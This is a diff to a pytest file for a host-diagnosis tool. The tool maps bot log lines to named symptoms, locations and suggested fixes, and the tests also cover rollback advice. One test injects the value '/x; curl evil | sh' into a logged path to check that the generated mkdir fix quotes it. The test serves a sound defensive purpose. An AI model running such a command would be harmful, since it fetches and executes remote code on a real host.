@@ -1,16 +1,17 @@
 """What is said about a silent bot. tests/machine/test_doctor.py plants it on a real host."""
 
+import re
 import socket
 from collections.abc import Callable
 from typing import Any
 
 import pytest
 from samples import TOKEN, probe, user, variables
-from test_host_status import SERVICE, installed
+from test_host_status import BINARY, CHANGE, ROLLED_BACK, SERVICE, installed
 
 from kai_ansible.doctor import about_token
 from kai_ansible.rules.configuration import read_configuration
-from kai_ansible.rules.diagnosis import STAGES, Finding, checkup_request, diagnosis
+from kai_ansible.rules.diagnosis import STAGES, Finding, checkup_request, diagnosis, shown_in
 from kai_ansible.rules.host_status import host_status
 from kai_ansible.rules.plan import desired_state
 from tests.cli.bot_api import serving
@@ -54,11 +55,135 @@ def test_of_a_host_that_is_well_nothing_is_found(contract: Contract) -> None:
     assert found(contract) == []
 
 
-def test_every_symptom_is_found_in_its_example_and_no_earlier_one(contract: Contract) -> None:
+def names(contract: Contract, line: str) -> list[str]:
+    """Return the symptoms that a line shows."""
+    return [one["name"] for one in contract["symptoms"] if re.search(one["pattern"], line)]
+
+
+def test_every_symptom_is_found_in_its_example_and_no_other_one(contract: Contract) -> None:
     for symptom in contract["symptoms"]:
+        assert names(contract, symptom["example"]) == [symptom["name"]]
         [finding] = found(contract, checkup=log("INFO kai: listening", symptom["example"]))
-        assert (finding.stage, finding.cause) == (symptom["stage"], symptom["cause"])
+        assert finding.stage == symptom["stage"]
         assert symptom["example"] in finding.evidence
+        assert "{" not in finding.where + finding.cause + finding.fix
+    every = [symptom["name"] for symptom in contract["symptoms"]]
+    assert sorted(every) == sorted(set(every))
+
+
+# Lines in our own words with the parts that a symptom looks for; tests/real/test_messages.py has
+# the ones of a real Kai.
+LINES = (
+    (
+        "user_refused",
+        "users.yaml: user 'Bo' has invalid llm_provider 'x' here",
+        "llm_provider of Bo",
+    ),
+    (
+        *(
+            "user_without_provider",
+            "users.yaml: user 'Bo' has agent_backend='goose', no llm_provider is configured",
+        ),
+        "llm_provider of Bo",
+    ),
+    (
+        "user_without_model",
+        "users.yaml: user 'Bo' is on open-ended provider 'ollama'",
+        "model of Bo",
+    ),
+    ("user_skipped", "users.yaml: skipping an entry", "/etc/kai/users.yaml"),
+    ("user_skipped", "users.yaml: skipping entry without anything", "/etc/kai/users.yaml"),
+    ("user_skipped", "users.yaml: invalid telegram_id 0: too small; skipping entry", "users.yaml"),
+    ("user_skipped", "users.yaml: invalid role 'x' for Bo (one of some)", "/etc/kai/users.yaml"),
+    ("user_skipped", "users.yaml: duplicate telegram_id 5", "/etc/kai/users.yaml"),
+    ("user_value_ignored", "users.yaml: invalid model 'x' for Bo (none such)", "model of Bo"),
+    (
+        *(
+            "user_value_ignored",
+            "users.yaml: invalid timeout for Bo: invalid literal for int() with",
+        ),
+        "timeout of Bo",
+    ),
+    (
+        "user_value_ignored",
+        "users.yaml: invalid github_repos entry for Bo: x",
+        "github_repos of Bo",
+    ),
+    ("user_value_ignored", "users.yaml: pr_review for Bo must be a boolean", "pr_review of Bo"),
+    ("directory_missing", "users.yaml: home_workspace not found for Bo: /srv/b; no", "/srv/b"),
+    ("directory_missing", "users.yaml: allowed_workspaces of Bo not found: /srv/b; no", "/srv/b"),
+    ("directory_missing", "ALLOWED_WORKSPACES: skipping non-existent path: /srv/b", "/srv/b"),
+    ("base_missing", "WORKSPACE_BASE is not an existing directory: /srv/b", "/srv/b"),
+    ("users_unusable", "users.yaml: no 'users' key", "/etc/kai/users.yaml"),
+    ("users_unusable", "/etc/kai/users.yaml: expected a mapping", "/etc/kai/users.yaml"),
+    ("users_unusable", "Invalid YAML in /etc/kai/users.yaml: a tab", "/etc/kai/users.yaml"),
+    ("users_unusable", "No user authorization configured", "/etc/kai/users.yaml"),
+    ("services_unreadable", "Invalid YAML in protected services config: x", "services.yaml"),
+    ("service_without_key", "Service 'a': env var X_KEY not set - skipping", "services.yaml: a"),
+    ("services_ignored", "Service 'a': no mapping - skipping", "/etc/kai/services.yaml"),
+    ("workspaces_ignored", "workspaces.yaml: /srv/b: no budget; skipping entry", "workspaces.yaml"),
+    ("workspaces_ignored", "/etc/kai/workspaces.yaml is malformed", "/etc/kai/workspaces.yaml"),
+    ("env_file_unreadable", "Cannot read env file /srv/b/env: not allowed", "/srv/b/env"),
+    ("setting_refused", "TOTP_SESSION_MINUTES must be a number", "env: TOTP_SESSION_MINUTES"),
+    ("setting_refused", "MEMORY_SEARCH_FLOOR must be between 0 and 1", "MEMORY_SEARCH_FLOOR"),
+    ("setting_refused", "CLAUDE_AUTOCOMPACT_PCT must be 0-100", "env: CLAUDE_AUTOCOMPACT_PCT"),
+    ("setting_refused", "AGENT_BACKEND 'x' is not valid here", "env: AGENT_BACKEND"),
+    ("setting_refused", "LLM_PROVIDER '' is not valid for backend 'goose'", "env: LLM_PROVIDER"),
+    ("setting_ignored", "Invalid GITHUB_NOTIFY_CHAT_ID: x (ignoring)", "GITHUB_NOTIFY_CHAT_ID"),
+    ("model_refused", "DEFAULT_MODEL 'x' is not valid for codex", "env: DEFAULT_MODEL"),
+    ("webhook_secret_missing", "TELEGRAM_WEBHOOK_SECRET (or another one) is required", "SECRET"),
+    ("extraction_without_binary", "Memory extraction requires the 'claude' binary", "claude"),
+    ("models_of_release", "MODEL_REGISTRY has codex rows that are unknown", "the live release"),
+    ("agent_forbidden", "PermissionError: no: 'claude'", "claude"),
+    ("agent_forbidden", "PermissionError: no: '/home/bo/bin/codex'", "/home/bo/bin/codex"),
+    ("permission_denied", "PermissionError: no: '/home/bo/xcodex'", "/home/bo/xcodex"),
+    ("permission_denied", "PermissionError: no: '/home/bo/codex/kai.db'", "/home/bo/codex/kai.db"),
+    ("agent_ended", "Codex process EOF", "the log of the bot"),
+    ("agent_ended", "RuntimeError: Goose process exited during handshake", "the log of the bot"),
+    ("agent_silent", "TimeoutError: Goose ACP handshake timed out", "the log of the bot"),
+)
+
+
+@pytest.mark.parametrize(("name", "line", "where"), LINES, ids=[line for _, line, _ in LINES])
+def test_a_line_of_a_family_is_explained_once(
+    contract: Contract, name: str, line: str, where: str
+) -> None:
+    assert names(contract, line) == [name]
+    [finding] = shown_in(contract, log(f"INFO kai.config WARNING {line}")["log"])
+    assert finding.where.endswith(where)
+    assert "{" not in finding.where + finding.cause + finding.fix
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "WORKSPACE_BASE in env is deprecated (users.yaml exists)",
+        "ALLOWED_USER_IDS is set, but users.yaml is used",
+        "users.yaml: no admin users defined",
+        "workspaces.yaml: unrecognized model 'x' for /srv/b",
+        "claude_user 'kai' matches bot process user",
+        "telegram.error.Forbidden: Forbidden: bot was blocked by the user",
+    ],
+)
+def test_what_a_healthy_bot_says_is_no_finding(contract: Contract, line: str) -> None:
+    assert list(shown_in(contract, log(line)["log"])) == []
+
+
+def test_a_finding_of_the_log_names_the_variable(contract: Contract) -> None:
+    lines = ["WEBHOOK_PORT must be 1", "PR_REVIEW_TIMEOUT_S must be 2", "WEBHOOK_PORT must be 3"]
+    port, timeout = shown_in(contract, lines)
+    assert port.evidence == "WEBHOOK_PORT must be 3 (2 lines like this)"
+    assert port.fix.endswith("kai_install_webhook_port gives")
+    assert timeout.fix.endswith("kai_install_pr_review_timeout_s gives")
+    [unknown] = shown_in(contract, ["Service 'a': env var MY_KEY not set - skipping"])
+    assert "kai_install_secret_extra_env.MY_KEY" in unknown.fix
+
+
+def test_what_a_log_says_is_no_command_in_a_fix(contract: Contract) -> None:
+    [finding] = shown_in(
+        contract, ["WORKSPACE_BASE is not an existing directory: /x; curl evil | sh"]
+    )
+    assert "mkdir -p '/x; curl evil | sh')" in finding.fix
 
 
 def test_the_last_line_of_a_symptom_is_shown_and_how_many_there_are(contract: Contract) -> None:
@@ -202,6 +327,32 @@ def test_where_nothing_is_installed_nothing_else_is_tried(contract: Contract) ->
     looked = probe(installed=installed(**nothing))
     request = checkup_request(contract, read, looked, desired_state(contract, read, looked))
     assert request["commands"] == []
+
+
+def test_after_a_rollback_no_finding_advises_the_install_that_was_rolled_back(
+    contract: Contract,
+) -> None:
+    findings = found(
+        contract,
+        installs=ROLLED_BACK,
+        service=CRASHED,
+        **CHANGE,
+        checkup={
+            **log("WEBHOOK_PORT must be an integer"),
+            "faults": [{"stage": "sudo", "what": "it reads", "argv": ["sudo"], "said": "no"}],
+            "trespasses": ["bob enters /x"],
+        },
+        seen={"binaries": {"claude": [{**BINARY, "fault": "alice cannot execute"}]}},
+    )
+    past = (
+        "install 2 was rolled back on 2026-01-05 to install 1, and host_vars may still ask for it"
+    )
+    advised = [finding for finding in findings if "kai-ansible install" in finding.fix]
+    assert {finding.stage for finding in advised} >= {"sudo", "files", "agents"}
+    for finding in advised:
+        assert finding.fix.startswith(f"{past}: correct them first; then ")
+    [drift] = [finding for finding in findings if finding.where == "/x"]
+    assert drift.cause.startswith(past)
 
 
 def test_a_file_is_told_once_with_the_first_of_what_differs(contract: Contract) -> None:
